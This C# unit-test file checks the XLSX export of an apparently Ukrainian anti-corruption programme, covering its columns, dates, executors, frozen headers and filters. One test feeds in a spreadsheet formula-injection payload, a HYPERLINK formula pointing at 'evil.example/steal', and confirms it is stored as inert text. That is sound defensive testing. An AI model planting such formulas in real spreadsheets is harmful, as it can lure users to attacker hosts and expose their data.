using AntiCor.Core.Contracts;
using AntiCor.Core.Documents.Export;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace AntiCor.Core.Tests.Documents.Export;

public sealed class XlsxExportTests
{
    private static readonly string[] Headers =
    [
        "Напрям №", "Напрям", "Захід №", "Захід", "Термін (як у документі)", "Вид терміну", "З", "По", "Виконавці", "Потребує перевірки",
    ];

    [Fact]
    public void Measures_sheet_has_every_measure_of_the_seed_in_order()
    {
        using var book = Open(ExportPlans.Seed);
        var rows = Rows(book, "Заходи");
        Assert.Equal(Headers, rows[0]);
        var measures = ExportPlans.Seed.Programme.Directions.SelectMany(d => d.Measures.Select(m => (Direction: d, Measure: m))).ToList();
        Assert.Equal(measures.Count + 1, rows.Count);
        foreach (var ((direction, measure), row) in measures.Zip(rows.Skip(1)))
        {
            Assert.Equal(direction.Number.ToString(), row[0]);
            Assert.Equal(direction.Title, row[1]);
            Assert.Equal(measure.Number, row[2]);
            Assert.Equal(measure.Text, row[3]);
            Assert.Equal(measure.Term.Text, row[4]);
            Assert.Equal(measure.NeedsReview ? "так" : "ні", row[9]);
        }
    }

    [Fact]
    public void Terms_are_named_in_ukrainian_and_their_dates_are_real_excel_dates_shown_as_dd_mm_yyyy()
    {
        using var book = Open(ExportPlans.Village());
        var rows = Rows(book, "Заходи");
        Assert.Equal(["дата", "період", "за планом", "постійно", "щокварталу", "не розпізнано", "щороку", "період", "період"], rows.Skip(1).Select(r => r[5]));

        var halfYear = rows.Single(r => r[2] == "1.2");
        Assert.Equal(DateSerial(new DateOnly(2021, 1, 1)), halfYear[6]);
        Assert.Equal(DateSerial(new DateOnly(2021, 6, 30)), halfYear[7]);
        var deadline = rows.Single(r => r[2] == "1.1");
        Assert.Equal("", deadline[6]);
        Assert.Equal(DateSerial(new DateOnly(2021, 3, 1)), deadline[7]);

        var sheet = Sheet(book, "Заходи");
        var dateCell = sheet.Descendants<Cell>().Single(c => c.CellReference == "H2");
        Assert.Null(dateCell.DataType);
        var format = (CellFormat)book.WorkbookPart!.WorkbookStylesPart!.Stylesheet!.CellFormats!.ElementAt((int)dateCell.StyleIndex!.Value);
        var code = book.WorkbookPart.WorkbookStylesPart.Stylesheet.NumberingFormats!.Elements<NumberingFormat>()
            .Single(f => f.NumberFormatId!.Value == format.NumberFormatId!.Value).FormatCode!.Value;
        Assert.Equal("dd.mm.yyyy", code);
    }

    [Fact]
    public void Executors_column_names_each_executor_and_marks_consent()
    {
        using var book = Open(ExportPlans.Village());
        var row = Rows(book, "Заходи").Single(r => r[2] == "2.1");
        Assert.Equal("Загальний відділ; Громадські організації (за згодою)", row[8]);
    }

    [Theory]
    [InlineData("Заходи", "A1:J27")]
    [InlineData("Виконавці", "A1:D")]
    public void Both_sheets_have_a_frozen_header_row_and_an_autofilter(string name, string range)
    {
        using var book = Open(ExportPlans.Seed);
        var sheet = Sheet(book, name);
        var pane = sheet.Descendants<Pane>().Single();
        Assert.Equal(PaneStateValues.Frozen, pane.State!.Value);
        Assert.Equal(1d, pane.VerticalSplit!.Value);
        Assert.Equal("A2", pane.TopLeftCell!.Value);
        var filter = sheet.Elements<AutoFilter>().Single();
        Assert.StartsWith(range, filter.Reference!.Value);
        Assert.Contains(book.WorkbookPart!.Workbook!.DefinedNames!.Elements<DefinedName>(), n => n.Name == "_xlnm._FilterDatabase" && n.Text.StartsWith($"'{name}'!$A$1:"));
    }

    [Fact]
    public void Executors_sheet_lists_each_unit_with_its_kind_aliases_and_number_of_measures()
    {
        using var book = Open(ExportPlans.Seed);
        var rows = Rows(book, "Виконавці");
        Assert.Equal(["Назва", "Вид", "Інші назви", "Кількість заходів"], rows[0]);
        Assert.Equal(ExportPlans.Seed.OrgUnits.Count, rows.Count - 1);

        var department = rows.Single(r => r[0] == "Відділ з питань запобігання і виявлення корупції та взаємодії з правоохоронними та контролюючими органами");
        Assert.Equal("підрозділ", department[1]);
        Assert.Contains("Відділ з питань запобігання та виявлення корупції", department[2]);
        var expected = ExportPlans.Seed.Programme.Directions.SelectMany(d => d.Measures).Count(m => m.Executors.Any(e => e.Name == department[0]));
        Assert.Equal(expected.ToString(), department[3]);

        Assert.Equal("група", rows.Single(r => r[0] == "Виконавчі органи")[1]);
        Assert.Equal("зовнішній", rows.Single(r => r[0] == "Громадська рада")[1]);
        Assert.Equal("1", rows.Single(r => r[0] == "Громадська рада")[3]);
    }

    [Fact]
    public void Long_texts_and_two_digit_numbers_are_kept_whole()
    {
        var plan = ExportPlans.Enterprise();
        using var book = Open(plan);
        var rows = Rows(book, "Заходи");
        var longest = plan.Programme.Directions.SelectMany(d => d.Measures).MaxBy(m => m.Text.Length)!;
        Assert.Equal(longest.Text, rows.Single(r => r[2] == longest.Number)[3]);
        Assert.Equal("10.12", rows.Where(r => r[0] == "10").Last()[2]);
    }

    [Fact]
    public void A_cell_that_starts_with_an_equals_sign_is_written_as_text_exactly_never_as_a_formula()
    {
        const string text = "=HYPERLINK(\"http://evil.example/steal\",\"Відкрити звіт\")";
        const string executor = "=1+2";
        using var book = Open(ExportPlans.OneMeasure(text, executor));

        var sheet = Sheet(book, "Заходи");
        Assert.Empty(book.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet!.Descendants<CellFormula>()));
        Assert.Equal(CellValues.SharedString, sheet.Descendants<Cell>().Single(c => c.CellReference == "D2").DataType!.Value);
        Assert.Equal(CellValues.SharedString, sheet.Descendants<Cell>().Single(c => c.CellReference == "I2").DataType!.Value);
        var row = Rows(book, "Заходи")[1];
        Assert.Equal(text, row[3]);
        Assert.Equal(executor, row[8]);
        Assert.Equal(executor, Rows(book, "Виконавці")[1][0]);
    }

    private static string DateSerial(DateOnly date) => (date.DayNumber - new DateOnly(1899, 12, 30).DayNumber).ToString();

    private static SpreadsheetDocument Open(ProgrammeDocument d) =>
        SpreadsheetDocument.Open(new MemoryStream(ProgrammeExport.ToBytes(d, ExportFormat.Xlsx)), false);

    private static Worksheet Sheet(SpreadsheetDocument book, string name)
    {
        var sheet = book.WorkbookPart!.Workbook!.Sheets!.Elements<Sheet>().Single(s => s.Name == name);
        return ((WorksheetPart)book.WorkbookPart.GetPartById(sheet.Id!.Value!)).Worksheet!;
    }

    /// <summary>The sheet's cell texts by row, shared strings resolved, empty cells as "".</summary>
    private static List<string[]> Rows(SpreadsheetDocument book, string name)
    {
        var strings = book.WorkbookPart!.SharedStringTablePart!.SharedStringTable!.Elements<SharedStringItem>().Select(s => s.InnerText).ToList();
        return Sheet(book, name).Descendants<Row>().Select(r => r.Elements<Cell>().Select(c =>
            c.CellValue is null ? ""
            : c.DataType?.Value == CellValues.SharedString ? strings[int.Parse(c.CellValue.Text)]
            : c.CellValue.Text).ToArray()).ToList();
    }
}
